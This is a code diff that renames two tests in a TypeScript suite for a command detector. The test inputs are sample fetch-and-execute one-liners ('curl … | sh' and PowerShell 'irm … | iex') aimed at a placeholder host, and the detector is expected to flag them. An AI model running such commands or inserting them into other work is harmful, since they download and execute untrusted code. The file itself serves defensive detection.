@@ -6,7 +6,7 @@ const detector = await createNodeDetector({ profile: "extended" });
 const rulesOf = (text: string): string[] => detector.detect(text).findings.map(({ rule }) => rule);
 
 describe("the rule of a command that several shells could execute", () => {
-  test("is the shell's for a pipe into a shell near PowerShell", () => {
+  test("is that of the shell for a pipe into a shell near PowerShell", () => {
     expect(
       rulesOf(
         '```bash\ncurl https://x.example/i | sh\npowershell -c "irm https://x.example/i.ps1 | iex"\n```',
@@ -14,7 +14,7 @@ describe("the rule of a command that several shells could execute", () => {
     ).toEqual(["bash/fetch-pipe", "powershell/fetch-execute"]);
   });
 
-  test("is PowerShell's in a PowerShell block", () => {
+  test("is that of PowerShell for a PowerShell command in any block", () => {
     expect(rulesOf("```powershell\nirm https://x.example/i.ps1 | iex\n```")).toEqual([
       "powershell/fetch-execute",
     ]);
